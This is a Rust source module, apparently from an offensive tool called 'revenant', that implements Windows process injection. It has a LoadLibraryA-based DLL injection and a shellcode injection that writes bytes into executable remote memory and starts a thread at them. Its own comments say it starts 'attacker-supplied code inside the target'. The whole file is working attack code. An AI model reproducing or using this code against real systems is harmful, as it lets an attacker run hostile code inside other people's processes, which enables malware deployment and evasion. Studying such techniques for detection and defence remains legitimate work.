//! Payload injection strategies
//!
//! A closed set of ways to start attacker-supplied code inside the target:
//! loading a DLL through the loader's own export, or planting raw shellcode
//! and spawning a thread at it. Both produce an [`InjectionResult`] naming
//! the remote allocation and the started thread; nothing is freed or waited
//! on automatically, that is the caller's call.

use crate::memory::{Memory, MemoryArea};
use crate::module::resolve_kernel32_export;
use crate::thread::Thread;
use revenant_common::{AllocationKind, Protection, Result};
use tracing::info;

/// A code injection strategy and its payload.
#[derive(Debug, Clone, Copy)]
pub enum Injection<'a> {
    /// Allocate the DLL path in the target and run `LoadLibraryA` over it.
    LoadLibrary { dll_path: &'a str },
    /// Plant `code` in an executable allocation and start a thread at its
    /// base.
    Shellcode { code: &'a [u8] },
}

/// What an injection left behind in the target.
#[derive(Debug)]
pub struct InjectionResult<'p> {
    /// The remote allocation holding the payload (path bytes or shellcode).
    pub area: MemoryArea<'p>,
    /// The thread started to run the payload.
    pub thread: Thread,
}

impl<'a> Injection<'a> {
    /// Run this injection against the process behind `memory`.
    pub fn execute<'p>(&self, memory: Memory<'p>) -> Result<InjectionResult<'p>> {
        match self {
            Injection::LoadLibrary { dll_path } => inject_load_library(memory, dll_path),
            Injection::Shellcode { code } => inject_shellcode(memory, code),
        }
    }
}

fn inject_load_library<'p>(memory: Memory<'p>, dll_path: &str) -> Result<InjectionResult<'p>> {
    let path_bytes = dll_path.as_bytes();
    let area = memory.allocate_area(
        None,
        path_bytes.len(),
        AllocationKind::ReserveCommit,
        Protection::READWRITE,
    )?;
    area.write(0, path_bytes)?;
    // The allocation is page granular, so the byte one past the area is
    // backed; the loader needs the path nul-terminated.
    memory.write(area.base() + path_bytes.len(), &[0])?;

    let load_library = resolve_kernel32_export("LoadLibraryA")?;
    let thread = memory.process().create_thread(load_library, Some(area.base()))?;

    info!(
        target: "revenant::injection",
        "load-library injection of {dll_path:?} into pid {}: path at {:#x}, thread {}",
        memory.process().pid(),
        area.base(),
        thread.tid()
    );
    Ok(InjectionResult { area, thread })
}

fn inject_shellcode<'p>(memory: Memory<'p>, code: &[u8]) -> Result<InjectionResult<'p>> {
    let area = memory.allocate_area(
        None,
        code.len(),
        AllocationKind::ReserveCommit,
        Protection::EXECUTE_READWRITE,
    )?;
    area.write(0, code)?;

    let thread = memory.process().create_thread(area.base(), None)?;

    info!(
        target: "revenant::injection",
        "shellcode injection of {} bytes into pid {}: code at {:#x}, thread {}",
        code.len(),
        memory.process().pid(),
        area.base(),
        thread.tid()
    );
    Ok(InjectionResult { area, thread })
}
